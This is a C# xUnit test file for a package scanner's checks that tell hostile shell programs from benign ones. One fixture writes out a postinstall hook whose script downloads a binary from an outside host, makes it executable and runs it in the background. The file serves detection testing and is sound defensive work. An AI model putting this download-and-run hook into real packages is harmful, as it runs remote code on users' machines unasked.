using System.Runtime.CompilerServices;
using System.Text.Json;
using Mtf.Checks;
using Mtf.Findings;
using Mtf.Tests.Checks;
using Xunit;

namespace Mtf.Tests.Flow.Shell;

/// <summary>What the checks of hostile behaviour say of shell programs, hostile and benign.</summary>
public sealed class ShellAttackTests
{
    public static TheoryData<string> Names => [.. Cases.Select(item => item.Name)];

    private static IReadOnlyList<(string Name, string[] Expected, IReadOnlyList<(string Path, string Text)> Files)> Cases { get; } = Parse(File.ReadAllText(DataFile()));

    [Theory]
    [MemberData(nameof(Names))]
    public void Hostile_programs_are_told_from_their_benign_twins(string name)
    {
        var (_, expected, files) = Cases.Single(item => item.Name == name);
        var evidence = TestEvidence.Of(files);
        var found = CheckCatalog.Checks.Where(check => check.Id is "BHV052" or "BHV053" or "BHV054" or "BHV055" or "BHV056" or "BHV095" or "BHV096" or "BHV092")
            .SelectMany(check => check.Run(evidence).ValueOrDefault ?? []).Where(finding => finding.Severity >= Severity.High);
        Assert.Equal(expected, found.Select(finding => finding.Check).Distinct().Order(StringComparer.Ordinal));
    }

    [Fact]
    public void The_way_from_download_to_execution_is_shown_with_its_lines()
    {
        var evidence = TestEvidence.Of(
            ("package.json", """{ "name": "a", "version": "1.0.0", "scripts": { "postinstall": "sh scripts/setup.sh" } }"""),
            ("scripts/setup.sh", "#!/bin/sh\nset -e\ncurl -fsSL -o /tmp/agent https://cdn.acme-data.net/agent\n\nchmod +x /tmp/agent\n/tmp/agent &\n"));
        var finding = Assert.Single(CheckCatalog.Checks.Single(check => check.Id == "BHV052").Run(evidence).ValueOrDefault!);
        Assert.Equal((new Location("scripts/setup.sh", 6), Severity.Critical), (finding.Location, finding.Severity));
        Assert.Equal([3, 6], finding.Steps.Select(step => step.Location.Line));
        Assert.Contains("on installation", finding.Message, StringComparison.Ordinal);
    }

    // A case: name | ids of the checks that object; then files. "hook" is the postinstall script of the manifest.
    private static List<(string, string[], IReadOnlyList<(string, string)>)> Parse(string text)
    {
        List<(string, string[], IReadOnlyList<(string, string)>)> cases = [];
        foreach (var section in text.Replace("\r\n", "\n", StringComparison.Ordinal).Split("\n=== ").Skip(1))
        {
            var parts = section.Split("\n--- ");
            var head = parts[0].Split('|', StringSplitOptions.TrimEntries);
            cases.Add((head[0], head[1].Split(' ', StringSplitOptions.RemoveEmptyEntries), [.. parts.Skip(1).Select(part => part.Split('\n', 2)).Select(part => FileOf(part[0], part[1]))]));
        }

        return cases;
    }

    private static (string, string) FileOf(string path, string text) => path == "hook"
        ? ("package.json", $$"""{ "name": "a", "version": "1.0.0", "scripts": { "postinstall": {{JsonSerializer.Serialize(text.Trim('\n'))}} } }""")
        : (path, text + "\n");

    private static string DataFile([CallerFilePath] string source = "") => Path.Combine(Path.GetDirectoryName(source)!, "attacks.txt");
}
